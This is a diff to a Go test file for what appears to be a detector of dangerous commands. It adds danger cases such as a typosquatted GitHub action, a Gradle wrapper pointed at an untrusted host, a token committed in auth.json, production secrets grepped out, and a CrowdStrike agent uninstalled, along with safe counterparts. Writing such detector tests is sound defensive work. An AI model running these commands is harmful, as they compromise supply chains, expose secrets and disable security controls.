@@ -102,6 +102,60 @@ func TestRound38ClustersAndHosts(t *testing.T) {
 	})
 }
 
+// The build and its code changed under the project: certificate checks
+// turned off in its code, a workflow's action taken from another owner,
+// the Gradle wrapper pointed elsewhere, a release's files replaced, Node's
+// check turned off for a session's installs, a package source's password
+// kept in clear text, a token written into composer's auth.json and
+// committed; on Windows, production settings and logs searched for
+// secrets, ports let in from everywhere, an extension forced into every
+// browser profile; a security agent's macOS extension removed.
+func TestRound38BuildAndWindows(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`sed -i 's/verify=True/verify=False/g' src/app/clients/*.py`, CategorySystem, "security-checks-skipped", LevelHigh},
+		{`sed -i 's#uses: actions/checkout@v4#uses: act1ons/checkout@v4#' .github/workflows/ci.yml`, CategorySystem, "security-checks-skipped", LevelHigh},
+		{`sed -i 's#^distributionUrl=.*#distributionUrl=https\\://dl.example.net/gradle-8.5-bin.zip#' gradle/wrapper/gradle-wrapper.properties`, CategoryRemoteExec, "dependency-source-swapped", LevelCritical},
+		{`./gradlew wrapper --gradle-distribution-url http://203.0.113.50/gradle-8.7-all.zip`, CategoryRemoteExec, "dependency-source-swapped", LevelCritical},
+		{`gh release upload v2.1.0 ./dist/app-linux-amd64 --clobber`, CategoryRemoteExec, "release-asset-replaced", LevelHigh},
+		{`export NODE_TLS_REJECT_UNAUTHORIZED=0; npm install`, CategorySystem, "", LevelHigh},
+		{`composer config --auth github-oauth.github.com "$GITHUB_TOKEN" && git add auth.json`, CategoryExfiltration, "secret-committed", LevelCritical},
+		{`sudo systemextensionsctl uninstall X9E956P446 com.crowdstrike.falcon.Agent`, CategorySystem, "security-agent-stopped", LevelHigh},
+	})
+	checkSafe(t, d, corpusContext, []string{
+		`sed -i 's/timeout=5/timeout=10/g' src/app/clients/*.py`,
+		`sed -i 's/verify=False/verify=True/g' src/app/clients/*.py`,
+		`sed -i 's#uses: actions/checkout@v3#uses: actions/checkout@v4#' .github/workflows/ci.yml`,
+		`./gradlew wrapper --gradle-version 8.7`,
+		`./gradlew wrapper --gradle-distribution-url https://services.gradle.org/distributions/gradle-8.7-bin.zip`,
+		`gh release upload v2.1.0 ./dist/app-linux-amd64`,
+		`npm install`,
+		`composer config -g --auth github-oauth.github.com "$GITHUB_TOKEN"`,
+	})
+	ps := winCorpusContextFor("powershell")
+	checkDanger(t, d, ps, []dangerCase{
+		{`Get-Content .\src\Api\appsettings.Production.json | Select-String -Pattern 'ConnectionString|Password'`, CategoryExfiltration, "secret-printed", LevelHigh},
+		{`docker logs prod-api 2>&1 | Select-String -Pattern 'secret'`, CategoryExfiltration, "secret-printed", LevelHigh},
+		{`New-NetFirewallRule -DisplayName 'k8s nodeports' -Direction Inbound -LocalPort 30000-32767 -Protocol TCP -Action Allow`, CategorySystem, "win-firewall-open", LevelHigh},
+		{`New-NetFirewallRule -DisplayName 'pg' -Direction Inbound -LocalPort 5432 -Protocol TCP -Action Allow`, CategorySystem, "win-firewall-open", LevelHigh},
+		{`$env:NODE_TLS_REJECT_UNAUTHORIZED = '0'; npm run publish:internal`, CategorySystem, "fetch-checks-off", LevelHigh},
+		{`dotnet nuget add source https://nuget.pkg.github.com/acme/index.json -n gh -u dev -p $env:GH_TOKEN --store-password-in-clear-text --configfile .\NuGet.Config`, CategoryExfiltration, "secret-stored-in-clear", LevelHigh},
+	})
+	checkSafe(t, d, ps, []string{
+		`Get-Content .\src\Api\appsettings.Production.json | Select-String -Pattern 'LogLevel'`,
+		`docker logs dev-api 2>&1 | Select-String -Pattern 'secret'`,
+		`New-NetFirewallRule -DisplayName 'dev' -Direction Inbound -LocalPort 5173 -Protocol TCP -Action Allow -RemoteAddress LocalSubnet`,
+		`dotnet nuget add source https://nuget.pkg.github.com/acme/index.json -n gh -u dev -p $env:GH_TOKEN`,
+	})
+	checkDanger(t, d, winCorpusContextFor("cmd"), []dangerCase{
+		{`reg add "HKLM\SOFTWARE\Policies\Google\Chrome\ExtensionInstallForcelist" /v 1 /t REG_SZ /d "abcdefghijklmnopabcdefghijklmnop;https://ext.example.net/update.xml" /f`, CategoryPersistence, "", LevelHigh},
+		{`set NODE_TLS_REJECT_UNAUTHORIZED=0 && npm install`, CategorySystem, "fetch-checks-off", LevelHigh},
+	})
+	checkSafe(t, d, winCorpusContextFor("cmd"), []string{
+		`reg query "HKLM\SOFTWARE\Policies\Google\Chrome\ExtensionInstallForcelist"`,
+	})
+}
+
 // Packages from misspelled names, a branch's moving archive, a dotfiles
 // repository whose bootstrap runs at once.
 func TestRound38Packages(t *testing.T) {
